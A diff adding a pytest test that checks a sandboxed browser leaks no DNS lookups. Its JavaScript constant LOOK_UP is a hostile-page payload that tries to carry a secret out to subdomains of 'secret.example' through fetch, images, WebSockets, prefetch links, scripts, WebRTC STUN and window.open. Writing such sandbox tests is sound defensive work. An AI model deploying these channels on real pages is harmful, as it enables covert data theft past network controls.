@@ -1,20 +1,23 @@
 """A hostile page against live listeners, on this machine and inside the jail: nothing of it may arrive."""
 
+import asyncio
 import importlib.util
 import json
 import os
+import socket
 import stat
 import subprocess
 import sys
 import tempfile
 from pathlib import Path
+from typing import Any
 
 import pytest
 
 pytest.importorskip("playwright", reason="Playwright is not installed")
 
 from playwright.async_api import Page
-from tests.envs.web.jail_attack import SITE
+from tests.envs.web.jail_attack import SITE, Answers
 
 from palestra.envs.web.browsers import Browsers
 from palestra.envs.web.jail import chromium_program, write_jail
@@ -65,6 +68,71 @@ def test_a_hostile_page_reaches_nothing(uid: int | None) -> None:
     for control in (found["control host"], found["control inside"]):
         assert len(set(control)) >= 20
         assert any("UDP" in one for one in control)
+
+
+LOOK_UP = """name => {
+  const add = (tag, attributes) => document.head.append(Object.assign(document.createElement(tag), attributes));
+  fetch(`http://fetched.${name}/`, {mode: "no-cors"}).catch(() => 0);
+  new Image().src = `http://pictured.${name}/`;
+  new WebSocket(`ws://socket.${name}/`);
+  add("link", {rel: "dns-prefetch", href: `http://prefetched.${name}/`});
+  add("link", {rel: "preconnect", href: `http://preconnected.${name}/`});
+  add("script", {src: `http://script.${name}/`});
+  const call = new RTCPeerConnection({iceServers: [{urls: `stun:called.${name}:3478`}]});
+  call.createDataChannel("x");
+  call.createOffer().then(offer => call.setLocalDescription(offer));
+  window.open(`http://opened.${name}/`);
+}"""
+
+
+class NameServer(asyncio.DatagramProtocol):
+    """Answers nothing, and keeps the first parts of the names that it is asked for."""
+
+    def __init__(self) -> None:
+        self.asked: set[str] = set()
+
+    def datagram_received(self, data: bytes, address: object) -> None:
+        self.asked.add(data[13 : 13 + data[12]].decode())
+
+
+@AS_ROOT_ONLY
+@pytest.mark.browser
+@pytest.mark.slow
+async def test_names_are_looked_up_nowhere(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """A name can carry a secret to a name server. The control is the same browser with the machine's network."""
+
+    async def look_up(browsers: Browsers, options: dict[str, Any]) -> None:
+        seat = await browsers.open(options)
+        if not options:
+            await seat.context.route(SITE, lambda route: route.fulfill(body="<head></head>", content_type="text/html"))
+        page = await seat.context.new_page()
+        await page.goto(SITE)
+        await page.evaluate(LOOK_UP, "secret.example")
+        await page.wait_for_timeout(3_000)  # what the page has started in the background
+
+    names = NameServer()
+    port = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    port.bind(("0.0.0.0", 53))
+    transport, _ = await asyncio.get_running_loop().create_datagram_endpoint(lambda: names, sock=port)
+    (tmp_path / "resolv.conf").write_text("nameserver 127.0.0.1\n")
+    control = tmp_path / "chromium"
+    bind = f"--ro-bind {tmp_path}/resolv.conf /etc/resolv.conf"
+    control.write_text(f'#!/bin/sh\nexec bwrap --dev-bind / / {bind} -- {chromium_program()} "$@"\n')
+    control.chmod(0o755)
+    jailed = Browsers()
+    try:
+        await look_up(jailed, {"proxy": jailed.front.admit(Answers(SITE)).proxy()})
+        assert names.asked == set()
+        monkeypatch.setenv("PALESTRA_CHROMIUM", str(control))
+        free = Browsers(jailed=False)
+        try:
+            await look_up(free, {})
+        finally:
+            await free.close()
+        assert len(names.asked) >= 6, names.asked
+    finally:
+        await jailed.close()
+        transport.close()
 
 
 @pytest.mark.browser
